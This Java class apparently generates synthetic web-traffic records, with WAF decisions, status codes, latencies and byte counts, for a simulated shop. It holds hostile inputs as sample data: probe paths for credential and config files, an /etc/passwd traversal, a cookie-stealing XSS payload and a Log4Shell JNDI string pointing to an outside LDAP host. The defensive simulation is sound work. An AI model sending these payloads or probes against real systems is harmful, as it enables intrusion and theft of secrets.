package io.spikewatch.generator;

import java.util.SplittableRandom;

/**
 * Builds the requests of each kind of traffic against the synthetic site {@code shop.example.com}:
 * what is asked (method, URI, query, headers), what WAF decides, what the target answers, how long
 * it takes and how many bytes flow.
 *
 * <p>Normal outcome shares (of requests WAF lets through): 4xx ≈ 1.6% (404, 401, 400, 403, 429),
 * 5xx ≈ 0.3% (500 and 503 from the target, 502 and 504 from the load balancer); WAF blocks ≈ 1% of
 * normal requests (IP reputation list, core rule set, known bad inputs), which ALB logs as 403
 * without a target. Together with background noise the overall 4xx share is about 2% before
 * blocks. Latencies are log-normal per content type; a 504 takes the 60 s idle timeout.
 */
final class RequestFactory {
    static final String HOST = "shop.example.com";
    static final double NORMAL_BLOCK_SHARE = 0.01;
    static final double NORMAL_4XX_SHARE = 0.016;
    static final double NORMAL_5XX_SHARE = 0.003;

    private static final String[] CATEGORIES = {"shoes", "jackets", "bags", "watches", "sale", "new-arrivals",
        "accessories", "kids", "outdoor", "gifts"};
    private static final String[] SEARCH_TERMS = {"running+shoes", "winter+jacket", "leather+bag", "smart+watch",
        "gift+card", "sneakers", "rain+coat", "backpack", "sunglasses", "wallet", "boots", "hoodie"};
    private static final String[] ASSETS = {"/static/js/app.3f9a1c7e.js", "/static/js/vendor.8b2d4e61.js",
        "/static/css/main.c41f09aa.css", "/static/fonts/inter-var.woff2"};
    static final String TRENDING_PAGE = "/live/keynote-2026";

    /** What a client does not expect to find: paths vulnerability scanners and bots try. */
    static final String[] PROBE_PATHS = {"/wp-admin/", "/wp-login.php", "/.env", "/.git/config", "/phpmyadmin/",
        "/admin/", "/config.php", "/server-status", "/.aws/credentials", "/actuator/env", "/xmlrpc.php",
        "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", "/cgi-bin/luci", "/backup.zip", "/.DS_Store",
        "/api/.env", "/console/", "/solr/admin/info/system", "/owa/auth/logon.aspx", "/HNAP1/",
        "/boaform/admin/formLogin", "/wp-content/plugins/revslider/temp/update_extract/", "/.svn/entries",
        "/debug/default/view", "/telescope/requests", "/_profiler/phpinfo", "/admin/config.php", "/db.sql",
        "/webui/", "/geoserver/web/"};

    private static final String ACCEPT_HTML =
            "text/html,application/xhtml+xml,application/xml;q=0.9,image/avif,image/webp,*/*;q=0.8";
    private static final String ACCEPT_IMAGE = "image/avif,image/webp,image/apng,image/svg+xml,image/*,*/*;q=0.8";
    private static final String ACCEPT_JSON = "application/json";
    private static final String ACCEPT_ANY = "*/*";
    private static final String ACCEPT_CSS = "text/css,*/*;q=0.1";

    /** What kind of resource a URI is: decides Accept, latency and response size. */
    enum Content {
        HTML(45_000, 6_000, 60_000),
        API(25_000, 300, 6_000),
        SCRIPT(3_000, 80_000, 420_000),
        STYLE(3_000, 20_000, 90_000),
        IMAGE(4_000, 15_000, 350_000),
        SMALL(2_000, 200, 4_000);

        final long medianMicros;
        final int minBytes;
        final int maxBytes;

        Content(long medianMicros, int minBytes, int maxBytes) {
            this.medianMicros = medianMicros;
            this.minBytes = minBytes;
            this.maxBytes = maxBytes;
        }
    }

    private long seq;

    /** A request of a regular client browsing the shop (or its app calling the API). */
    SyntheticRequest browse(Client c, long createdMillis, SplittableRandom rnd) {
        return browse(c, createdMillis, true, rnd);
    }

    private SyntheticRequest browse(Client c, long createdMillis, boolean mayBlock, SplittableRandom rnd) {
        SyntheticRequest r = start(c, createdMillis, rnd);
        Content content = c.app ? appCall(r, rnd) : pageOrAsset(r, rnd);
        if (mayBlock && rnd.nextDouble() < NORMAL_BLOCK_SHARE) {
            blockNormal(r, rnd);
        } else {
            normalOutcome(r, content, rnd);
        }
        return finish(r, content, rnd);
    }

    /** A crawler fetching pages; crawlers are allowed and hit a few more 404s and redirects. */
    SyntheticRequest crawl(Client c, long createdMillis, SplittableRandom rnd) {
        SyntheticRequest r = start(c, createdMillis, rnd);
        double u = rnd.nextDouble();
        Content content = Content.HTML;
        r.accept = "text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8";
        if (u < 0.03) {
            r.uri = "/robots.txt";
            content = Content.SMALL;
            r.accept = ACCEPT_ANY;
        } else if (u < 0.05) {
            r.uri = "/sitemap.xml";
            content = Content.SMALL;
            r.accept = ACCEPT_ANY;
        } else if (u < 0.65) {
            r.uri = "/products/" + productId(rnd);
        } else if (u < 0.85) {
            r.uri = "/category/" + CATEGORIES[rnd.nextInt(CATEGORIES.length)];
            if (rnd.nextBoolean()) r.args = "page=" + (2 + rnd.nextInt(20));
        } else if (u < 0.90) {
            r.uri = "/";
        } else {
            r.uri = "/images/products/" + productId(rnd) + ".jpg";
            content = Content.IMAGE;
            r.accept = ACCEPT_IMAGE;
        }
        double s = rnd.nextDouble();
        if (s < 0.03) {
            allowWith(r, 404);
        } else if (s < 0.05) {
            allowWith(r, 301);
        } else {
            allowWith(r, 200);
        }
        return finish(r, content, rnd);
    }

    /** A stray request from the internet's background noise: tools, probes, health checks of others. */
    SyntheticRequest noise(Client c, String userAgent, long createdMillis, SplittableRandom rnd) {
        SyntheticRequest r = start(c, createdMillis, rnd);
        r.userAgent = userAgent;
        r.accept = ACCEPT_ANY;
        double u = rnd.nextDouble();
        Content content = Content.SMALL;
        if (u < 0.45) {
            r.uri = "/";
            content = Content.HTML;
        } else if (u < 0.60) {
            r.uri = "/robots.txt";
        } else if (u < 0.70) {
            r.uri = "/favicon.ico";
        } else {
            r.uri = PROBE_PATHS[rnd.nextInt(PROBE_PATHS.length)];
        }
        if (userAgent == null) {
            block(r, WafRule.CRS_NO_USER_AGENT);
        } else if (rnd.nextDouble() < 0.05) {
            block(r, WafRule.IP_REPUTATION);
        } else if (r.uri.equals("/") || r.uri.equals("/robots.txt") || r.uri.equals("/favicon.ico")) {
            allowWith(r, 200);
        } else {
            allowWith(r, 404);
        }
        return finish(r, content, rnd);
    }

    /** One request of a flood: ordinary-looking URIs, blocked when the rate rule has kicked in. */
    SyntheticRequest flood(Client c, String userAgent, long createdMillis, boolean rateLimited, SplittableRandom rnd) {
        SyntheticRequest r = start(c, createdMillis, rnd);
        r.userAgent = userAgent;
        double u = rnd.nextDouble();
        Content content;
        if (u < 0.35) {
            r.uri = "/";
            r.accept = ACCEPT_HTML;
            content = Content.HTML;
        } else if (u < 0.60) {
            r.uri = "/search";
            r.args = "q=" + SEARCH_TERMS[rnd.nextInt(SEARCH_TERMS.length)] + "&page=" + (1 + rnd.nextInt(50));
            r.accept = ACCEPT_HTML;
            content = Content.HTML;
        } else if (u < 0.85) {
            r.uri = "/products/" + productId(rnd);
            r.accept = ACCEPT_HTML;
            content = Content.HTML;
        } else {
            r.method = "POST";
            r.uri = "/api/v1/cart";
            r.accept = ACCEPT_JSON;
            content = Content.API;
        }
        if (rateLimited) {
            block(r, WafRule.RATE_LIMIT);
        } else {
            normalOutcome(r, content, rnd);
        }
        return finish(r, content, rnd);
    }

    /** One probe of a vulnerability scanner; {@code errorShare} of its requests end in 4xx. */
    SyntheticRequest probe(Client c, String userAgent, long createdMillis, double errorShare, SplittableRandom rnd) {
        SyntheticRequest r = start(c, createdMillis, rnd);
        r.userAgent = userAgent;
        r.accept = ACCEPT_ANY;
        Content content = Content.SMALL;
        double u = rnd.nextDouble();
        // About one probe in ten trips a managed rule; WAF's 403 is a 4xx in the ALB log too.
        double blockShare = Math.min(0.10, errorShare);
        if (u < blockShare) {
            r.uri = rnd.nextBoolean() ? "/.env" : "/.git/config";
            block(r, rnd.nextBoolean() ? WafRule.KBI_EXPLOITABLE_PATHS : WafRule.CRS_LFI);
            if (r.rule == WafRule.CRS_LFI) r.uri = "/static/../../etc/passwd";
        } else if (u < errorShare) {
            r.uri = PROBE_PATHS[rnd.nextInt(PROBE_PATHS.length)];
            double s = rnd.nextDouble();
            allowWith(r, s < 0.80 ? 404 : s < 0.92 ? 403 : s < 0.97 ? 400 : 405);
        } else {
            // The rest finds something: the home page, robots.txt, redirects.
            double s = rnd.nextDouble();
            r.uri = s < 0.4 ? "/" : s < 0.7 ? "/robots.txt" : s < 0.9 ? "/login" : "/sitemap.xml";
            allowWith(r, s < 0.9 ? 200 : 301);
            if (r.uri.equals("/") || r.uri.equals("/login")) content = Content.HTML;
        }
        return finish(r, content, rnd);
    }

    /** Distributed surge: credential stuffing on /login and scraping of search and products. */
    SyntheticRequest surge(Client c, long createdMillis, SplittableRandom rnd) {
        SyntheticRequest r = start(c, createdMillis, rnd);
        double u = rnd.nextDouble();
        Content content = Content.HTML;
        if (u < 0.5) {
            r.method = "POST";
            r.uri = "/login";
            r.accept = ACCEPT_HTML;
        } else if (u < 0.8) {
            r.uri = "/search";
            r.args = "q=" + SEARCH_TERMS[rnd.nextInt(SEARCH_TERMS.length)];
            r.accept = ACCEPT_HTML;
        } else {
            r.uri = "/api/v1/products/" + productId(rnd);
            r.accept = ACCEPT_JSON;
            content = Content.API;
        }
        if (rnd.nextDouble() < 0.03) {
            block(r, WafRule.IP_REPUTATION);
        } else if (r.method.equals("POST")) {
            // Most stuffed credentials are wrong: 401, the rest a redirect into the account.
            allowWith(r, rnd.nextDouble() < 0.7 ? 401 : 302);
        } else {
            normalOutcome(r, content, rnd);
        }
        return finish(r, content, rnd);
    }

    /** A visitor of a flash crowd: the trending page and its assets; never blocked. */
    SyntheticRequest trending(Client c, long createdMillis, SplittableRandom rnd) {
        double u = rnd.nextDouble();
        if (u >= 0.85) return browse(c, createdMillis, false, rnd);
        SyntheticRequest r = start(c, createdMillis, rnd);
        Content content;
        if (u < 0.4) {
            r.uri = TRENDING_PAGE;
            r.accept = ACCEPT_HTML;
            content = Content.HTML;
        } else if (u < 0.7) {
            r.uri = ASSETS[rnd.nextInt(ASSETS.length)];
            r.accept = r.uri.endsWith(".css") ? ACCEPT_CSS : ACCEPT_ANY;
            content = r.uri.endsWith(".css") ? Content.STYLE : Content.SCRIPT;
        } else {
            r.uri = "/images/live/keynote-" + (1 + rnd.nextInt(12)) + ".jpg";
            r.accept = ACCEPT_IMAGE;
            content = Content.IMAGE;
        }
        normalOutcome(r, content, rnd);
        return finish(r, content, rnd);
    }

    private SyntheticRequest start(Client c, long createdMillis, SplittableRandom rnd) {
        SyntheticRequest r = new SyntheticRequest();
        r.seq = seq++;
        r.client = c;
        r.createdMillis = createdMillis;
        r.userAgent = c.userAgent;
        r.method = "GET";
        // A client keeps a connection open for a while: same port and conn_trace_id for ~2 minutes.
        r.connection = AddressPlan.mix(c.id * 1_000_003L + createdMillis / 120_000);
        r.clientPort = 1024 + (int) ((r.connection >>> 33) % 64_511);
        return r;
    }

    private Content pageOrAsset(SyntheticRequest r, SplittableRandom rnd) {
        double u = rnd.nextDouble();
        if (u < 0.10) return html(r, "/");
        if (u < 0.33) return html(r, "/products/" + productId(rnd));
        if (u < 0.43) {
            html(r, "/category/" + CATEGORIES[rnd.nextInt(CATEGORIES.length)]);
            if (rnd.nextDouble() < 0.3) r.args = "page=" + (2 + rnd.nextInt(8));
            return Content.HTML;
        }
        if (u < 0.50) {
            html(r, "/search");
            r.args = "q=" + SEARCH_TERMS[rnd.nextInt(SEARCH_TERMS.length)];
            return Content.HTML;
        }
        if (u < 0.55) return api(r, "GET", "/api/v1/cart");
        if (u < 0.58) return api(r, "POST", "/api/v1/cart");
        if (u < 0.63) {
            api(r, "GET", "/api/v1/recommendations");
            r.args = "product=" + productId(rnd);
            return Content.API;
        }
        if (u < 0.70) {
            r.uri = ASSETS[rnd.nextInt(ASSETS.length)];
            boolean css = r.uri.endsWith(".css");
            r.accept = css ? ACCEPT_CSS : ACCEPT_ANY;
            return css ? Content.STYLE : Content.SCRIPT;
        }
        if (u < 0.90) {
            r.uri = "/images/products/" + productId(rnd) + ".jpg";
            r.accept = ACCEPT_IMAGE;
            return Content.IMAGE;
        }
        if (u < 0.93) return html(r, "/login");
        if (u < 0.95) {
            html(r, "/login");
            r.method = "POST";
            return Content.HTML;
        }
        if (u < 0.97) return html(r, "/account/orders");
        r.uri = "/favicon.ico";
        r.accept = ACCEPT_IMAGE;
        return Content.SMALL;
    }

    private Content appCall(SyntheticRequest r, SplittableRandom rnd) {
        double u = rnd.nextDouble();
        if (u < 0.40) return api(r, "GET", "/api/v1/products/" + productId(rnd));
        if (u < 0.60) {
            api(r, "GET", "/api/v1/recommendations");
            r.args = "product=" + productId(rnd);
            return Content.API;
        }
        if (u < 0.75) return api(r, "GET", "/api/v1/cart");
        if (u < 0.85) return api(r, "POST", "/api/v1/cart");
        api(r, "GET", "/api/v1/search");
        r.args = "q=" + SEARCH_TERMS[rnd.nextInt(SEARCH_TERMS.length)];
        return Content.API;
    }

    private static Content html(SyntheticRequest r, String uri) {
        r.uri = uri;
        r.accept = ACCEPT_HTML;
        return Content.HTML;
    }

    private static Content api(SyntheticRequest r, String method, String uri) {
        r.method = method;
        r.uri = uri;
        r.accept = ACCEPT_JSON;
        return Content.API;
    }

    /** Product ids skewed towards the low (popular) ones. */
    private static int productId(SplittableRandom rnd) {
        double u = rnd.nextDouble();
        return 1000 + (int) (9000 * u * u * u);
    }

    private void blockNormal(SyntheticRequest r, SplittableRandom rnd) {
        double u = rnd.nextDouble();
        if (u < 0.6) {
            block(r, WafRule.IP_REPUTATION);
        } else if (u < 0.85) {
            r.args = "q=%3Cscript%3Ealert(document.cookie)%3C%2Fscript%3E";
            block(r, WafRule.CRS_XSS);
        } else {
            r.userAgent = "${jndi:ldap://" + (100 + rnd.nextInt(150)) + ".45.12.9:1389/a}";
            block(r, WafRule.KBI_LOG4J);
        }
    }

    private static void normalOutcome(SyntheticRequest r, Content content, SplittableRandom rnd) {
        double u = rnd.nextDouble();
        if (u < NORMAL_4XX_SHARE) {
            double s = rnd.nextDouble();
            allowWith(r, s < 0.5 ? 404 : s < 0.65 ? 401 : s < 0.8 ? 400 : s < 0.9 ? 403 : 429);
        } else if (u < NORMAL_4XX_SHARE + NORMAL_5XX_SHARE) {
            double s = rnd.nextDouble();
            if (s < 0.4) {
                allowWith(r, 500);
            } else if (s < 0.55) {
                allowWith(r, 503);
            } else {
                // Generated by the load balancer itself: no target status.
                r.elbStatus = s < 0.85 ? 502 : 504;
                r.targetStatus = -1;
            }
        } else if (r.method.equals("POST")) {
            allowWith(r, r.uri.equals("/login") ? 302 : 201);
        } else if (content == Content.IMAGE && rnd.nextDouble() < 0.08) {
            allowWith(r, 304);
        } else {
            allowWith(r, 200);
        }
    }

    private static void allowWith(SyntheticRequest r, int status) {
        r.rule = null;
        r.elbStatus = status;
        r.targetStatus = status;
    }

    private static void block(SyntheticRequest r, WafRule rule) {
        r.rule = rule;
        r.elbStatus = 403;
        r.targetStatus = -1;
    }

    /** Timings, sizes, target and trace id, from what was decided above. */
    private static SyntheticRequest finish(SyntheticRequest r, Content content, SplittableRandom rnd) {
        r.traceHigh = rnd.nextLong();
        r.traceLow = rnd.nextInt();
        r.receivedBytes = (r.client.http2 ? 40 + rnd.nextInt(360) : 250 + rnd.nextInt(650))
                + (r.method.equals("POST") ? 100 + rnd.nextInt(1400) : 0);
        long created = r.createdMillis * 1000;
        if (r.blocked()) {
            // WAF rejected it before any target was involved: ALB logs -1 for all three timings.
            r.target = -1;
            r.requestProcessingMicros = -1;
            r.targetProcessingMicros = -1;
            r.responseProcessingMicros = -1;
            r.sentBytes = 180 + rnd.nextInt(40);
            r.completedMicros = created + 500 + rnd.nextInt(2500);
            return r;
        }
        r.target = rnd.nextInt(3);
        r.requestProcessingMicros = rnd.nextInt(1200);
        if (r.elbStatus == 502 || r.elbStatus == 504) {
            r.targetProcessingMicros = -1;
            r.responseProcessingMicros = -1;
            r.sentBytes = 110 + rnd.nextInt(60);
            // 504: the target never answered within the 60 s idle timeout.
            long waited = r.elbStatus == 504 ? 60_000_000L + rnd.nextInt(5_000) : 2_000 + rnd.nextInt(30_000);
            r.completedMicros = created + r.requestProcessingMicros + waited;
            return r;
        }
        double median = content.medianMicros * (r.elbStatus >= 400 ? 0.5 : 1.0);
        long target = (long) (median * Math.exp(0.7 * gaussian(rnd)));
        r.targetProcessingMicros = Math.max(400, Math.min(10_000_000L, target));
        r.responseProcessingMicros = rnd.nextInt(80);
        if (r.elbStatus == 304 || r.elbStatus == 301 || r.elbStatus == 302) {
            r.sentBytes = 150 + rnd.nextInt(250);
        } else if (r.elbStatus >= 400) {
            r.sentBytes = 200 + rnd.nextInt(900);
        } else {
            r.sentBytes = content.minBytes + rnd.nextInt(content.maxBytes - content.minBytes);
        }
        r.completedMicros = created + r.requestProcessingMicros + r.targetProcessingMicros + r.responseProcessingMicros;
        return r;
    }

    private static double gaussian(SplittableRandom rnd) {
        // Box-Muller; one of the pair is enough here.
        double u1 = 1 - rnd.nextDouble();
        double u2 = rnd.nextDouble();
        return Math.sqrt(-2 * Math.log(u1)) * Math.cos(2 * Math.PI * u2);
    }
}
